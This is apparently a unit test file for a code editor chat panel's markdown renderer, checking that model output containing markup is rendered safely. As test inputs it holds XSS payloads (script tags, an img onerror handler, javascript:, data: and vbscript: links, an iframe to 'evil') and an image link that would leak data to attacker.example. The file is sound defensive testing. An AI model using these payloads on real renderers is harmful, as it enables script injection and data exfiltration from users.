import assert from "node:assert/strict";
import { markdownToHtml, parseFenceInfo } from "../../src/webview/chat/markdownIt";

/**
 * The first of the panel's two guards against model output that carries markup: markdown-it with raw HTML off.
 * (The second, DOMPurify, needs a DOM: the e2e test renders these payloads in the real webview.)
 */
describe("chat markdown rendering", () => {
    it("renders raw HTML in the model's text as text", () => {
        const html = markdownToHtml("Look: <img src=x onerror=\"alert(1)\"> and <script>alert(2)</script>\n\n<iframe src=\"https://evil\"></iframe>");
        assert.ok(!/<img|<script|<iframe/i.test(html), html);
        assert.match(html, /&lt;img src=x onerror=&quot;alert\(1\)&quot;&gt;/);
        assert.match(html, /&lt;script&gt;alert\(2\)&lt;\/script&gt;/);
    });

    it("drops javascript:, data: and vbscript: links and does not render images", () => {
        for (const href of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)"]) {
            const html = markdownToHtml(`[click me](${href})`);
            assert.ok(!/<a /.test(html), html);
        }
        assert.match(markdownToHtml("[docs](https://code.visualstudio.com)"), /<a href="https:\/\/code\.visualstudio\.com">docs<\/a>/);
        const image = markdownToHtml("![secret](https://attacker.example/?q=data)");
        assert.ok(!/<img/.test(image), image);
    });

    it("highlights fenced code and keeps the file it names", () => {
        const html = markdownToHtml("```ts src/format.ts\nconst x: number = 1; // <b>\n```");
        assert.match(html, /<pre><code class="language-ts" data-lang="ts" data-path="src\/format\.ts">/);
        assert.match(html, /<span class="hljs-keyword">const<\/span>/);
        assert.match(html, /&lt;b&gt;/);
        const unknown = markdownToHtml("```nosuchlang\n<script>x</script>\n```");
        assert.match(unknown, /&#60;script&#62;x&#60;\/script&#62;/);
        const hostile = markdownToHtml("```\"><script>alert(1)</script>\nx\n```");
        assert.ok(!/<script>/.test(hostile), hostile);
    });

    it("reads the language and path of a fence's info string", () => {
        assert.deepEqual(parseFenceInfo("typescript"), { language: "typescript", path: undefined });
        assert.deepEqual(parseFenceInfo("ts src/a.ts"), { language: "ts", path: "src/a.ts" });
        assert.deepEqual(parseFenceInfo("python:stats.py"), { language: "python", path: "stats.py" });
        assert.deepEqual(parseFenceInfo("ts title=\"src/b.ts\""), { language: "ts", path: "src/b.ts" });
        assert.deepEqual(parseFenceInfo("ts {1,3}"), { language: "ts", path: undefined });
        assert.deepEqual(parseFenceInfo(""), { language: "", path: undefined });
    });
});
